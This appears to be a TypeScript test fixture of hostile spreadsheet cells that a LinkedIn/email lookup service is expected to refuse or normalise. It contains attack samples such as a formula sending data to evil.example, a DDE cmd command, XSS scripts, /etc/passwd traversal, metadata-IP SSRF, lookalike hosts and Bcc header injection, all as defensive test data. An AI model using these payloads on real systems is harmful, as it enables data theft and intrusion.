/** What a hostile sheet may hold where an identifier is expected, and what is sent for it. */
export interface HostileCell {
	what: string;
	cell: unknown;
	/** By kind of identifier: what goes over the wire. What is not named here is refused. */
	asks: Partial<Record<'linkedin' | 'email' | 'hem', string>>;
	/** Nothing is asked, and nothing is wrong. */
	isBlank: boolean;
}

const IN = 'https://www.linkedin.com/in/';
const ADA = `${IN}ada-example`;
const MEGABYTE = 1_000_000;

const refused = (what: string, ...cells: unknown[]) =>
	cells.map((cell): HostileCell => ({ what, cell, asks: {}, isBlank: false }));
const blank = (what: string, ...cells: unknown[]) =>
	cells.map((cell): HostileCell => ({ what, cell, asks: {}, isBlank: true }));
/** Whoever is named is named plainly, and the rest of the cell means nothing to anyone. */
const profile = (what: string, slug: string, ...cells: unknown[]) =>
	cells.map((cell): HostileCell => ({
		what,
		cell,
		asks: { linkedin: IN + encodeURIComponent(slug) },
		isBlank: false,
	}));
/** An address as it stands: the service is the judge of it. */
const email = (what: string, ...cells: string[]) =>
	cells.map((cell): HostileCell => ({ what, cell, asks: { email: cell, hem: cell }, isBlank: false }));

/** An object that answers whoever takes it for a text, a number or JSON. */
function trap(): object {
	const spring = () => {
		throw new Error('The cell was asked what it is');
	};
	return { toString: spring, valueOf: spring, toJSON: spring, [Symbol.toPrimitive]: spring };
}

export const HOSTILE_CELLS: readonly HostileCell[] = [
	...refused(
		'a formula',
		'=HYPERLINK("https://evil.example/?x="&A1,"Ada")',
		'=1+1',
		'+1+1',
		'-1+1',
		'@SUM(1)',
		"=cmd|' /C calc'!A0",
		'\t=1+1',
		'\r=1+1',
		'＝1+1',
	),
	...refused('a formula around an address', `=${ADA}`, `+${ADA}`, `-${ADA}`, '@ada@example.com'),
	...profile('an address inside a formula', 'ada-example', `=HYPERLINK("${ADA}")`),
	...profile(
		'a sign for mentions before an address',
		'ada-example',
		'@www.linkedin.com/in/ada-example',
		`\t${ADA}`,
		`${ADA}\r`,
	),
	...email('an address that starts like a formula', '=ada@example.com', '+ada@example.com', '-ada@example.com'),

	...refused('HTML', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'ada<b>@example.com'),
	...profile(
		'an address inside HTML',
		'ada-example',
		`<a href="${ADA}">Ada</a>`,
		`${ADA}"><script>alert(1)</script>`,
	),
	{
		what: 'an e-mail in brackets',
		cell: '<ada@example.com>',
		asks: { email: 'ada@example.com', hem: 'ada@example.com' },
		isBlank: false,
	},
	...profile('HTML in a query', 'ada-example', `${ADA}?x=<script>alert(1)</script>`, `${ADA}#"onmouseover="alert(1)`),

	...refused(
		'a megabyte',
		'a'.repeat(MEGABYTE),
		'1'.repeat(MEGABYTE),
		'@'.repeat(MEGABYTE),
		'/'.repeat(MEGABYTE),
		'='.repeat(MEGABYTE),
		'a.'.repeat(MEGABYTE / 2),
	),
	...refused(
		'a megabyte of an address',
		`${'a'.repeat(MEGABYTE)}@example.com`,
		`ada@${'example.'.repeat(MEGABYTE / 8)}com`,
		`${IN}${'a'.repeat(MEGABYTE)}`,
		`https://${'a'.repeat(MEGABYTE)}.linkedin.example/in/ada`,
	),
	...refused(
		'a megabyte of blanks between two words',
		`a${' '.repeat(MEGABYTE)}b`,
		`a${'\u200b'.repeat(MEGABYTE)}b`,
		`${IN}a${'%20'.repeat(MEGABYTE / 3)}b`,
	),
	...profile(
		'a megabyte behind an address',
		'ada-example',
		`${ADA}?${'x'.repeat(MEGABYTE)}`,
		`${ADA}/${'de/'.repeat(MEGABYTE / 3)}`,
		`${ADA}${' '.repeat(MEGABYTE)}`,
	),
	...blank('a megabyte of nothing', ' '.repeat(MEGABYTE), '\u200b'.repeat(MEGABYTE), '\n'.repeat(MEGABYTE)),

	...refused(
		'a null byte',
		'\0',
		'ada\0example',
		`${ADA}\0`,
		`\0${ADA}`,
		`${IN}ada%00`,
		'ada\0@example.com',
		'ada@example.com\0',
		'\0ada@example.com',
	),
	...refused('a direction override in a bare slug', 'ada-example\u202egnp.exe', 'ada\u202eexample'),
	...profile('a direction override in an address', 'ada-example\u202egnp.exe', `${ADA}\u202egnp.exe`),
	...refused('a bare slug', '\u202eelpmaxe-ada', '\u0430da-example', 'ada-example'),
	...email('a direction override', 'ada\u202e@example.com'),
	...refused(
		'half a surrogate pair',
		`${IN}ada\ud800`,
		'ada\udc00example',
		'ada\ud800@example.com',
		'ada@exam\udfffple.com',
	),

	...refused(
		'a host that looks like it',
		'https://www.linked\u0456n.com/in/ada-example',
		'https://www.\u04cfinkedin.com/in/ada-example',
		'https://www.lin\u043aedin.com/in/ada-example',
		'https://www.linkedin.c\u043em/in/ada-example',
	),
	...refused(
		'a host in punycode',
		'https://www.xn--linkedn-p1a.com/in/ada-example',
		'https://xn--linkedin-x.com/in/ada-example',
		'https://www.xn--nkedin-pgb.com/in/ada-example',
	),
	...profile(
		'a host that every browser reads as it',
		'ada-example',
		'https://www.ｌｉｎｋｅｄｉｎ.ｃｏｍ/in/ada-example',
		'https://www.lin\u212aedin.com/in/ada-example',
		'https://www.linkedin\u3002com/in/ada-example',
		'https://www.linkedin%2ecom/in/ada-example',
	),
	...profile('a slug that looks like another', '\u0430da-example', `${IN}\u0430da-example`),
	...profile('a slug in wide letters', 'ａｄａ-example', `${IN}ａｄａ-example`),
	...email('a mailbox that looks like another', '\u0430da@example.com', 'ａｄａ@example.com'),
	...refused('a sign that looks like the at sign', 'ada＠example.com', 'ada﹫example.com'),

	...refused(
		'another scheme',
		'javascript:alert(1)',
		'javascript://www.linkedin.com/in/ada-example',
		'JaVaScRiPt://www.linkedin.com/%0aalert(1)',
		'data:text/html,<script>alert(1)</script>',
		'vbscript:x',
	),
	...profile('an address behind another scheme', 'ada-example', `data:text/plain,${ADA}`),
	...refused(
		'a file',
		'file:///in/ada-example',
		'file://www.linkedin.com/in/ada-example',
		'\\\\evil.example\\in\\ada-example',
		'/etc/passwd',
		'../../etc/passwd',
	),
	...refused(
		'another host',
		'https://www.linkedin.com@evil.example/in/ada-example',
		'https://www.linkedin.com:pass@evil.example/in/ada-example',
		'https://evil.example/www.linkedin.com/in/ada-example',
		'linkedin.com.evil.example/in/ada-example',
	),
	...refused(
		'another host in disguise',
		'https://www.linkedin.com%2eevil.example/in/ada-example',
		'https://www-linkedin.com/in/ada-example',
		'https://evil.example#www.linkedin.com/in/ada-example',
		'https://evil.example?www.linkedin.com/in/ada-example',
	),
	...refused(
		'no place of a profile',
		'https://www.linkedin.com\\@evil.example/in/ada-example',
		'https://www.linkedin.com#@evil.example/in/ada-example',
		'https://www.linkedin.com/redirect?url=https://evil.example/in/ada-example',
		`${ADA}@evil.example`,
	),
	...refused(
		'this machine',
		'http://127.0.0.1/in/ada-example',
		'http://[::1]/in/ada-example',
		'http://localhost/in/ada-example',
		'http://169.254.169.254/in/ada-example',
	),
	...refused(
		'a way up',
		`${IN}../company/example`,
		`${IN}%2e%2e%2fcompany%2fexample`,
		`${IN}..%5c..`,
		`${IN}%252e%252e/../..`,
	),
	...refused(
		'a user name or a password',
		'https://ada:secret@www.linkedin.com/in/ada-example',
		'https://ada@www.linkedin.com/in/ada-example',
	),

	...refused(
		'two at signs',
		'ada@example.com@evil.example',
		'"ada@example.com"@evil.example',
		'ada@@example.com',
		'ada@example.com,bob@example.com',
	),
	...refused(
		'another header',
		'ada@example.com\r\nBcc: bob@example.com',
		'ada@example.com\nbob@example.com',
		'ada@example.com%0aBcc:bob@example.com',
		'ada\r\n@example.com',
		'ada@example.com\u2028bob@example.com',
	),

	...refused(
		'no text',
		{},
		{ url: ADA },
		[ADA, ADA],
		[['ada@example.com']],
		new Date(0),
		new String(ADA),
		new Map(),
		Object.create(null),
		() => ADA,
	),
	...refused('a trap', trap(), [trap()]),
	...blank('a number that is none', NaN, 'NaN'),
	...refused('a number that names nobody', Infinity, -Infinity, 'Infinity', -0, 1e21, 12_345n),
	...profile('a list of one', 'ada-example', [ADA]),
	...blank('nothing', [], '', null, undefined, '\ufeff', '\r\n\t'),
];
